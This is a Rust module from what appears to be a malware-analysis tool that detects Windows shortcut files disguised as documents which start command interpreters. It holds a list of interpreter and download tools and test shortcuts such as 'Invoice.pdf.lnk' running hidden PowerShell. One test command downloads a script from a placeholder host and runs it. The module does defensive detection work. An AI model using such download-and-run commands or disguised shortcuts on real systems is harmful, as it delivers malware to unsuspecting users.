//! Shortcuts of Windows: the command that opening one starts, handed back as a script, and the signs of one that is meant
//! to be taken for a document.
//!
//! Known uses: droppers of Black Basta and Qakbot (2022 to 2024), "ZDI-CAN-25373" (2025: arguments behind so many blanks
//! that the properties do not show them). Honest look-alikes: shortcuts that installers make, with a program, few arguments
//! and its own icon.

use super::{Command, When};
use crate::analyze::{Heuristic, Notes};
use crate::model::{Capability, Evidence, Fact, FileKind, Gap, Rule, Step, artifact::base_name};
use crate::parse::Parsed;
use crate::parse::lnk::{Shortcut, read};
use crate::rule;
use crate::unwrap::{Child, Content};

rule! {
    /// A shortcut starts a command interpreter with arguments and is dressed as something that is read: it has the name or
    /// the icon of a document, or its arguments stand behind so many blanks that its properties do not show them.
    ///
    /// Honest look-alikes: shortcuts to a console, which have its icon.
    pub(crate) DISGUISED = "lnk-interpreter-in-disguise" in "evade/masquerade";
    severity: High, confidence: Likely,
    title: "A shortcut that looks like a document starts a command interpreter",
    reference: "https://attack.mitre.org/techniques/T1204/002/",
}

/// Programs that do what their arguments say.
const INTERPRETERS: &[&str] = &[
    "cmd",
    "powershell",
    "pwsh",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "regsvr32",
    "conhost",
    "forfiles",
    "pcalua",
    "certutil",
    "bitsadmin",
    "curl",
    "msiexec",
    "ssh",
    "hh",
    "python",
    "pythonw",
    "node",
    "explorer",
];
/// Endings of documents, and the programs that read them.
const DOCUMENTS: &[&str] = &[
    ".pdf", ".doc", ".docx", ".rtf", ".xls", ".xlsx", ".ppt", ".pptx", ".txt", ".jpg", ".jpeg", ".png", ".csv", ".eml",
    ".zip", ".hwp", ".one",
];
const READERS: &[&str] = &[
    "acrord32", "acrobat", "winword", "excel", "powerpnt", "wordpad", "notepad", "msedge", "outlook", "foxit",
    "wordicon", "xlicons",
];
/// Blanks before which whatever stands is not shown any more.
const BLANKS: usize = 64;

/// Reads shortcuts.
pub(super) struct Shortcuts;

impl Heuristic for Shortcuts {
    fn rules(&self) -> &'static [&'static Rule] {
        const { &[&DISGUISED] }
    }

    fn applies(&self, kind: FileKind) -> bool {
        kind == FileKind::Lnk
    }

    fn check(&self, file: &Parsed<'_>, out: &mut Notes) {
        let bytes = file.bytes();
        let Some(shortcut) = read(bytes) else { return };
        if shortcut.is_cut {
            out.gaps.push(Gap::malformed("a shortcut that ends before all is read that it announces"));
        }
        out.facts.extend(shortcut.targets.iter().map(|t| Fact::has(Capability::Spawns, t.as_str(), 0)));
        if let Some((target, why)) = disguise(&shortcut, file.base_name()) {
            let note = format!("{why}: {target} {}", one_line(&shortcut.arguments));
            out.findings.push(DISGUISED.finding(Evidence::note(note)));
        }
        // One that tells of no program may still have one that is not read here.
        let targets = if shortcut.targets.is_empty() { vec![String::new()] } else { shortcut.targets };
        let commands = targets.iter().map(|target| Command {
            trigger: "shortcut".to_owned(),
            when: When::Automatic,
            text: format!("{} {}", quoted(target), shortcut.arguments.trim()),
            extension: "bat",
        });
        super::tell(file, commands.collect(), out);
        if let Some(at) = shortcut.behind
            && let Some(rest) = usize::try_from(at).ok().and_then(|at| file.view().slice(at..bytes.len()))
            && rest.len() > 16
        {
            out.children.push(Child {
                name: "behind the shortcut".to_owned(),
                step: Step::Bytes { offset: at, len: rest.len() as u64 },
                content: Content::Ready(rest),
            });
        }
    }
}

/// The arguments of a shortcut that stand alone as text under its name: what is handed to the command interpreter.
pub(super) fn arguments(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    let text = text.trim();
    let is_command = ["/c ", "/k ", "/q ", "/s "].iter().any(|o| text.to_ascii_lowercase().starts_with(o));
    let line = if is_command { format!("cmd.exe {text}") } else { text.to_owned() };
    out.push(Command { trigger: "shortcut".to_owned(), when: When::Automatic, text: line, extension: "bat" });
}

fn quoted(path: &str) -> String {
    if path.contains(' ') { format!("\"{path}\"") } else { path.to_owned() }
}

/// The program that a target is, in small letters and without its ending.
fn program_of(target: &str) -> String {
    let base = base_name(&target.replace('\\', "/")).to_ascii_lowercase();
    base.trim().trim_end_matches(".exe").to_owned()
}

/// Which interpreter a shortcut starts and why it is taken for something else, if it is.
fn disguise<'s>(shortcut: &'s Shortcut, name: &str) -> Option<(&'s str, &'static str)> {
    let target = shortcut.targets.iter().find(|t| INTERPRETERS.contains(&program_of(t).as_str()))?;
    if shortcut.arguments.trim().is_empty() {
        return None;
    }
    dressed(shortcut, name).map(|why| (target.as_str(), why))
}

/// Why a shortcut is taken for a document.
fn dressed(shortcut: &Shortcut, name: &str) -> Option<&'static str> {
    let icon = shortcut.icon.to_ascii_lowercase();
    let stem = name.to_ascii_lowercase();
    let stem = stem.strip_suffix(".lnk").unwrap_or(&stem);
    if DOCUMENTS.iter().any(|end| stem.ends_with(end)) {
        return Some("named like a document");
    }
    if DOCUMENTS.iter().any(|end| icon.ends_with(end))
        || READERS.iter().any(|r| base_name(&icon.replace('\\', "/")).starts_with(r))
    {
        return Some("with the icon of a document");
    }
    let blanks = shortcut.arguments.chars().take_while(|c| c.is_whitespace()).count();
    let inside = longest_blank(&shortcut.arguments);
    (blanks.max(inside) >= BLANKS).then_some("its arguments stand behind blanks")
}

/// The longest run of blanks that something follows.
fn longest_blank(text: &str) -> usize {
    let (mut longest, mut run) = (0, 0);
    for c in text.chars() {
        if c.is_whitespace() {
            run += 1;
        } else {
            longest = longest.max(run);
            run = 0;
        }
    }
    longest
}

fn one_line(text: &str) -> String {
    let words: Vec<&str> = text.split_whitespace().take(40).collect();
    words.join(" ").chars().take(200).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::lnk::build;

    fn found(name: &str, bytes: &[u8]) -> Option<&'static str> {
        disguise(&read(bytes).unwrap(), name).map(|(_, why)| why)
    }

    #[test]
    fn interpreters_in_disguise() {
        let shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        assert!(found("Invoice.pdf.lnk", &build(shell, "-w hidden -c x", "")).is_some());
        assert!(found("a.lnk", &build(shell, "-c x", "C:\\Program Files\\Adobe\\AcroRd32.exe")).is_some());
        assert!(found("a.lnk", &build(shell, &format!("{}-c x", " ".repeat(200)), "")).is_some());
        assert!(found("PowerShell.lnk", &build(shell, "-NoExit", shell)).is_none());
        assert!(found("Report.pdf.lnk", &build("C:\\Adobe\\AcroRd32.exe", "C:\\a.pdf", "")).is_none());
    }

    #[test]
    fn every_target_that_it_tells_counts() {
        let targets = vec!["C:\\Adobe\\AcroRd32.exe".to_owned(), "%COMSPEC%\\cmd.exe".to_owned()];
        let shortcut = Shortcut { targets, arguments: "/c x".to_owned(), ..Shortcut::default() };
        assert_eq!(disguise(&shortcut, "a.pdf.lnk").map(|(target, _)| target), Some("%COMSPEC%\\cmd.exe"));
    }

    #[test]
    fn what_is_started_is_a_command() {
        use crate::analyze::commands::tests::commands;
        let found = commands("a.lnk", FileKind::Text, "/q /c curl.exe -o x.js https://h.invalid/x && wscript x.js");
        assert_eq!(found, ["Automatic shortcut: cmd.exe /q /c curl.exe -o x.js https://h.invalid/x && wscript x.js"]);
    }
}
